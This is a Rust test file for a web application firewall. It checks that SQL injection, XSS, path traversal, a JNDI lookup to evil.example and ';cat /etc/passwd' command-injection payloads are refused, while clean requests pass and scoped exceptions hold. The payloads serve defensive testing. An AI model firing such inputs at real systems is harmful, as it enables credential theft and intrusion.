//! The rules in front of an application: what they refuse, what handlers except, what a clean request costs.

#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "a test that cannot go on stops")]

mod support;

use std::time::Instant;

use palisade::firewall::Firewall;
use palisade::prelude::*;
use palisade::testing::{Client, Reply};
use palisade::{ConfigError, SecureApp};
use palisade_waf::CoreRuleSet;

#[input]
struct Note {
    #[validate(length(min = 1, max = 2_000))]
    text: String,
}

#[input]
struct Search {
    #[validate(length(max = 200))]
    q: Option<String>,
}

#[public(reason = "a test", rate = "1000/s", unredacted = "a test")]
async fn search(Query(search): Query<Search>) -> String {
    search.q.unwrap_or_default()
}

#[public(reason = "a test", rate = "1000/s", unredacted = "a test")]
async fn write(Json(note): Json<Note>) -> String {
    note.text
}

#[public(
    reason = "a test",
    rate = "1000/s",
    unredacted = "a test",
    firewall(except = "tag:attack-sqli", reason = "saved queries are SQL")
)]
async fn save_query(Json(note): Json<Note>) -> String {
    note.text
}

#[public(reason = "a test", rate = "1000/s", unredacted = "a test")]
async fn leaks() -> String {
    "You have an error in your SQL syntax; check the manual for MySQL".to_owned()
}

fn app(rules: CoreRuleSet, change: fn(Firewall) -> Firewall) -> Result<SecureApp, ConfigError> {
    let firewall = change(Firewall::new(rules.load().unwrap()));
    let firewall = firewall.deadline(std::time::Duration::from_secs(10));
    let security = Security::builder().direct().firewall(firewall).build()?;
    SecureRouter::new()
        .route("/search", get(search))
        .route("/notes", post(write))
        .route("/queries", post(save_query))
        .route("/leaks", get(leaks))
        .secured_by(security)
}

fn client(change: fn(Firewall) -> Firewall) -> Client {
    Client::new(app(support::rules(), change).unwrap())
}

/// As a browser or a program sends it.
async fn fetch(client: &Client, target: &str) -> Reply {
    let get = client.get(target).header("host", "api.example.com");
    get.header("user-agent", "curl/8.5.0").header("accept", "*/*").send().await
}

async fn send(client: &Client, path: &str, text: &str) -> Reply {
    let body = format!(r#"{{"text":{}}}"#, quoted(text));
    let post = client.post(path).header("host", "api.example.com").header("accept", "*/*");
    let post = post.header("user-agent", "curl/8.5.0").header("content-type", "application/json");
    let post = post.header("content-length", &body.len().to_string());
    post.body(axum::body::Body::from(body)).send().await
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

const INJECTION: &str = "1' UNION SELECT password FROM users-- ";

#[tokio::test]
async fn attacks_are_refused_and_work_goes_on() {
    let client = client(|firewall| firewall);
    for attack in [
        "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=../../../../etc/passwd",
        "/search?q=%24%7Bjndi%3Aldap%3A//evil.example/a%7D",
        "/search?q=;cat%20/etc/passwd",
    ] {
        let reply = fetch(&client, attack).await;
        assert_eq!(reply.status(), 403, "{attack}");
        assert!(!reply.text().contains("94"), "{}", reply.text());
    }
    for attack in [INJECTION, "<script>alert(document.cookie)</script>"] {
        assert_eq!(send(&client, "/notes", attack).await.status(), 403, "{attack}");
    }
    for clean in
        ["/search", "/search?q=blue%20widgets", "/search?q=O%27Brien", "/search?q=50%25%20off"]
    {
        assert_eq!(fetch(&client, clean).await.status(), 200, "{clean}");
    }
    for clean in ["Meet at nine.", "Bring the select few; order by noon.", "Größe & Maß: 3 < 4"]
    {
        assert_eq!(send(&client, "/notes", clean).await.text(), clean);
    }
}

#[tokio::test]
async fn an_answer_that_tells_of_the_database_stays_inside() {
    let client = client(|firewall| firewall);
    assert_eq!(fetch(&client, "/leaks").await.status(), 403);
}

#[tokio::test]
async fn a_handler_excepts_what_is_its_work_and_nothing_else() {
    let client = client(|firewall| firewall);
    assert_eq!(send(&client, "/queries", INJECTION).await.text(), INJECTION);
    assert_eq!(send(&client, "/notes", INJECTION).await.status(), 403);
    let script = "<script>alert(document.cookie)</script>";
    assert_eq!(send(&client, "/queries", script).await.status(), 403);
}

#[tokio::test]
async fn detection_alone_refuses_nothing() {
    let client = client(Firewall::detection_only);
    assert_eq!(send(&client, "/notes", INJECTION).await.text(), INJECTION);
}

#[tokio::test]
async fn a_form_cannot_hide_a_field() {
    #[public(reason = "a test", rate = "1000/s")]
    struct Anything;

    let firewall = Firewall::new(support::rules().load().unwrap());
    let firewall = firewall.deadline(std::time::Duration::from_secs(10));
    let security = Security::builder().direct().firewall(firewall).build().unwrap();
    let taking = axum::routing::any(async || "taken");
    let app = SecureRouter::<()>::new().service("/form", Anything, taking);
    let client = Client::new(app.secured_by(security).unwrap());
    let send = async |first: &str, second: &str| {
        let part = |name: &str, value: &str| {
            format!("--B\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        };
        let body = format!("{}{}--B--\r\n", part("a", first), part("b", second));
        let post = client.post("/form").header("host", "api.example.com").header("accept", "*/*");
        let post = post.header("user-agent", "curl/8.5.0");
        let post = post.header("content-type", "multipart/form-data; boundary=B");
        let post = post.header("content-length", &body.len().to_string());
        post.body(axum::body::Body::from(body)).send().await.status().as_u16()
    };
    assert_eq!(send("one", "two").await, 200);
    assert_eq!(send("one", INJECTION).await, 403);
    assert_eq!(send("x--B--", INJECTION).await, 403);
    assert_eq!(send("x--B--", "two").await, 403);
}

#[test]
fn what_is_no_release_does_not_load() {
    let says = |rules: CoreRuleSet| rules.load().unwrap_err().to_string();
    assert!(says(CoreRuleSet::folder("/nowhere")).contains("cannot be read"));
    assert!(says(CoreRuleSet::folder(env!("CARGO_MANIFEST_DIR"))).contains("release of version 4"));
    assert!(says(support::rules().paranoia(0)).contains("1 to 4"));
    assert!(says(support::rules().paranoia(5)).contains("1 to 4"));
    assert!(says(support::rules().thresholds(0, 4)).contains("refuses everything"));
    assert!(!says(support::rules().before("SecRule ARGS")).is_empty());
}

#[test]
fn a_rule_that_is_none_is_not_excepted() {
    #[public(reason = "a test", rate = "1/s", firewall(except = "942999", reason = "a typo"))]
    async fn typo() -> &'static str {
        ""
    }
    let firewall = Firewall::new(support::rules().load().unwrap());
    let security = Security::builder().direct().firewall(firewall).build().unwrap();
    let told = SecureRouter::<()>::new().route("/", get(typo)).secured_by(security).unwrap_err();
    assert!(told.to_string().contains("`942999`"), "{told}");

    // One less of a kind that decides is no exception.
    #[public(reason = "a test", rate = "1/s", firewall(except = "949110", reason = "quiet"))]
    async fn quiet() -> &'static str {
        ""
    }
    let firewall = Firewall::new(support::rules().load().unwrap());
    let security = Security::builder().direct().firewall(firewall).build().unwrap();
    let told = SecureRouter::<()>::new().route("/", get(quiet)).secured_by(security).unwrap_err();
    assert!(told.to_string().contains("`firewall(off, ..)`"), "{told}");
}

/// Prints what a clean request costs; run it with `--release`.
#[tokio::test]
async fn a_clean_request_is_measured() {
    async fn micros(client: &Client) -> u128 {
        const ROUNDS: u32 = 100;
        let began = Instant::now();
        for _ in 0..ROUNDS {
            assert_eq!(fetch(client, "/search?q=blue%20widgets").await.status(), 200);
        }
        (began.elapsed() / ROUNDS).as_micros()
    }
    let with = micros(&client(|firewall| firewall)).await;
    let security = Security::builder().direct().build().unwrap();
    let plain = SecureRouter::new().route("/search", get(search)).secured_by(security).unwrap();
    let without = micros(&Client::new(plain)).await;
    println!("a clean GET: {with} us with the rules, {without} us without");
}
